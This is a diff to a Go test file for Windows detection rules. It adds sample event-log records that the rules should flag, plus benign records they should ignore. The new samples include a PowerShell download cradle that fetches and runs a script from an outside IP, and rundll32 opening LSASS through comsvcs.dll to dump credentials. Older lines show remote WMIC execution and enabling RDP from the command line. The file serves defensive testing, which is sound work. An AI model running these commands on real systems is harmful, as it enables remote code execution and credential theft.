@@ -81,6 +81,17 @@ var positives = map[string]*event.Event{
 		"TargetFilename", `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.vbs`),
 	"WMIC Process Call Create":           detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\wbem\WMIC.exe`, "CommandLine", `wmic /node:10.0.0.9 process call create "cmd /c x"`),
 	"PsExec Service Executing a Command": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", `C:\Windows\PSEXESVC.exe`),
+	"PowerShell Download Cradle in a Script Block": detecttest.Event(event.ChannelPowerShell, 4104, base, "WS1",
+		"ScriptBlockText", `$wc = New-Object System.Net.WebClient; IEX $wc.DownloadString('http://198.51.100.23/s/a.ps1')`),
+	"LSASS Opened From Comsvcs.dll": detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Windows\System32\rundll32.exe`,
+		"TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", "0x1fffff",
+		"CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\comsvcs.dll+3f9f|C:\Windows\System32\rundll32.exe+3bd4`),
+	"Executable Started From a Microsoft Folder in Roaming AppData": detecttest.Sysmon(1, base, "WS1",
+		"Image", `C:\Users\bob\AppData\Roaming\Microsoft\Network\msupdate.exe`, "ParentImage", `C:\Windows\explorer.exe`),
+	"Scheduled Task Registered With an Action in a Writable Folder": detecttest.Event(event.ChannelSecurity, 4698, base, "WS1",
+		"TaskName", `\Updater`, "TaskContent", `<Actions><Exec><Command>C:\ProgramData\u\u.exe</Command></Exec></Actions>`),
+	"Service Installed From a Writable Folder (Security Audit)": detecttest.Event(event.ChannelSecurity, 4697, base, "WS1",
+		"ServiceName", "updsvc", "ServiceFileName", `C:\Windows\Temp\updsvc.exe`),
 	"Remote Desktop Enabled From the Command Line": detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\reg.exe`,
 		"CommandLine", `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`),
 }
@@ -137,6 +148,9 @@ func TestShippedRulesStayQuietOnBenignEvents(t *testing.T) {
 	require.NoError(t, err)
 	for _, ev := range []*event.Event{
 		detecttest.Sysmon(1, base, "WS1", "Image", `C:\Windows\System32\notepad.exe`, "CommandLine", `notepad.exe C:\notes.txt`, "ParentImage", `C:\Windows\explorer.exe`),
+		detecttest.Sysmon(1, base, "WS1", "Image", `C:\Users\bob\AppData\Roaming\Microsoft\Teams\current\Teams.exe`),
+		detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Windows\System32\svchost.exe`, "TargetImage", `C:\Windows\system32\lsass.exe`,
+			"GrantedAccess", "0x1410", "CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\lsasrv.dll+1a0b`),
 		detecttest.Sysmon(10, base, "WS1", "SourceImage", `C:\Windows\System32\svchost.exe`, "TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", "0x1010"),
 		detecttest.Sysmon(3, base, "WS1", "Image", `C:\Windows\System32\rundll32.exe`, "Initiated", "true", "DestinationIp", "10.1.2.3"),
 		detecttest.Sysmon(22, base, "WS1", "Image", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "QueryName", "x.ngrok.io"),
